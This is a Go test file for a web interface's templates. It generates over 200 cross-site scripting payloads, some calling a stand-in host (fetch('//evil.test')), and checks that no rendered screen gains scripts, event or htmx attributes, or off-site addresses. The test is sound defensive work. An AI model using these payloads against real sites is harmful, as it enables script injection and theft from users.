package page

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/piton-project/piton/internal/app"
	"github.com/piton-project/piton/internal/app/marks"
	"github.com/piton-project/piton/internal/app/planruns"
	"github.com/piton-project/piton/internal/history"
)

// hostile are texts that try to become more than a text, where they stand as text, in an
// attribute, in an address, in a stream or in JSON.
func hostile() (list []string) {
	calls := []string{"alert(1)", "window.__x=1", "fetch('//evil.test')", "import('//evil.test')", "document.title=1"}
	forms := []string{
		"<script>%s</script>", "<ScRiPt >%s</sCrIpT>", "</title><script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "<svg><script>%s</script></svg>",
		"\"><img src=x onerror=%s>", "'><img src=x onerror=%s>", "\" onmouseover=\"%s", "' onfocus='%s' autofocus='", "` onclick=`%s", "javascript:%s", "JaVaScRiPt:%s", " javascript:%s",
		"data:text/html,<script>%s</script>", "<a href=\"javascript:%s\">x</a>", "<iframe srcdoc=\"<script>%s</script>\">", "<object data=\"javascript:%s\">", "<math><mtext><script>%s</script>",
		"<details open ontoggle=%s>", "<body onload=%s>", "<template><script>%s</script></template>", "</textarea><script>%s</script>", "<style>@import '//evil.test/%s'</style>",
		"<base href=//evil.test/%s>", "<meta http-equiv=refresh content='0;url=javascript:%s'>", "<form action=\"javascript:%s\"><button>x", "<link rel=stylesheet href=//evil.test/%s>",
		"\" hx-get=\"/x\" hx-trigger=\"load\" x=\"%s", "<div hx-on:click=\"%s\">", "<div hx-sse:connect=\"/live/\" x=\"%s\">", "\" data-act=\"cancel-run\" data-thing=\"%s",
		"\n\ndata: <script>%s</script>\n\n", "\r\revent: x\rdata: %s\r\r", "{{%s}}", "${%s}", "<!--><script>%s</script>-->", "<![CDATA[<script>%s</script>]]>", "\x00<script>%s</script>", "\u202e<script>%s</script>",
	}
	for _, form := range forms {
		for _, call := range calls {
			list = append(list, fmt.Sprintf(form, call))
		}
	}
	return list
}

// screensShown are the screens' data, with nothing in it.
var screensShown = map[string]any{
	"now": &nowScreen{}, "sessions": &app.SessionList{}, "session": &sessionScreen{}, "workflows": &workflowsScreen{}, "workflow": &workflowScreen{}, "checkpoint": &checkpointScreen{},
	"compare": &compareScreen{}, "runs": &runsScreen{}, "run": &runScreen{}, "insights": &insightsScreen{}, "letters": &app.LetterList{}, "find": &found{}, "failed": &failure{},
	"undo": &marks.UndoList{}, "prune": &history.Pruning{},
}

// filled makes a value of which every text is the given one, and every list has members.
func filled(t reflect.Type, text string, depth int) reflect.Value {
	v := reflect.New(t).Elem()
	switch t.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Float64:
		v.SetFloat(1.5)
	case reflect.Pointer:
		if depth < 7 {
			v.Set(reflect.New(t.Elem()))
			v.Elem().Set(filled(t.Elem(), text, depth+1))
		}
	case reflect.Slice:
		if t.Elem().Kind() == reflect.Uint8 {
			v.SetBytes([]byte(fmt.Sprintf("%q", text)))
		} else if depth < 9 {
			v = reflect.Append(v, filled(t.Elem(), text, depth+1))
		}
	case reflect.Struct:
		for i := range t.NumField() {
			if f := t.Field(i); f.IsExported() && f.Type.String() != "time.Time" {
				v.Field(i).Set(filled(f.Type, text, depth+1))
			}
		}
	}
	return v
}

// own are the attributes that the templates write themselves and that do something.
var own = []string{"data-act", "data-thing", "data-says", "data-copy", "data-plot", "data-row", "data-v", "data-say", "data-keep", "hx-morph-skip-children"}

// TestHostileTexts: on no screen and in no field does a text become an element, a script, an
// attribute or an address of another page.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	for _, s := range screens {
		if screensShown[s.name] == nil {
			t.Errorf("the screen %s is not tried", s.name)
		}
	}
	all := hostile()
	if len(all) < 200 {
		t.Fatalf("%d texts", len(all))
	}
	kinds := []app.MomentKind{app.MomentPrompt, app.MomentWords, app.MomentEdit, app.MomentCommand, app.MomentCheck, app.MomentMeasured, app.MomentRead, app.MomentHeld, app.MomentLetGo, app.MomentLost, app.MomentCheckpoint}
	for name, empty := range screensShown {
		plain := elements(t, name, drawn(name, filledScreen(empty, "plain", kinds)))
		for _, text := range all {
			html := drawn(name, filledScreen(empty, text, kinds))
			if got := elements(t, name, html); !slices.Equal(got, plain) {
				t.Fatalf("%s: %q changes the elements", name, text)
			}
		}
	}
}

func filledScreen(empty any, text string, kinds []app.MomentKind) any {
	v := filled(reflect.TypeOf(empty).Elem(), text, 0)
	switch x := v.Addr().Interface().(type) {
	case *sessionScreen:
		m := x.Moments[0]
		x.Moments = nil
		for _, k := range kinds {
			m.Kind = k
			x.Moments = append(x.Moments, m)
		}
	case *runScreen:
		x.Graph = layout([]planruns.RunStep{{ID: text, Reason: text}})
	}
	return v.Interface()
}

// elements are a document's elements with the names of their attributes; it fails for those
// that do something that is not ours.
func elements(t *testing.T, screen, text string) (list []string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		all := n.Data
		for _, a := range n.Attr {
			all += " " + a.Key
			name := strings.ToLower(a.Key)
			doing := strings.HasPrefix(name, "on") || strings.HasPrefix(name, "hx-") || strings.HasPrefix(name, "data-")
			if doing && !slices.Contains(own, name) || name == "style" || name == "srcdoc" {
				t.Errorf("%s: an element %s has %s=%q", screen, n.Data, a.Key, a.Val)
			}
			if (name == "href" || name == "src" || name == "action") && !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "?") {
				t.Errorf("%s: an address leads elsewhere: %q", screen, a.Val)
			}
			if name == "href" && strings.HasPrefix(a.Val, "//") {
				t.Errorf("%s: an address leads to another host: %q", screen, a.Val)
			}
		}
		if slices.Contains([]string{"script", "iframe", "object", "embed", "base", "meta", "link", "style", "img", "template"}, n.Data) {
			t.Errorf("%s: there is a %s", screen, n.Data)
		}
		if n.Data != "code" { // code in a sentence stands between backticks
			list = append(list, all)
		}
	}
	return list
}
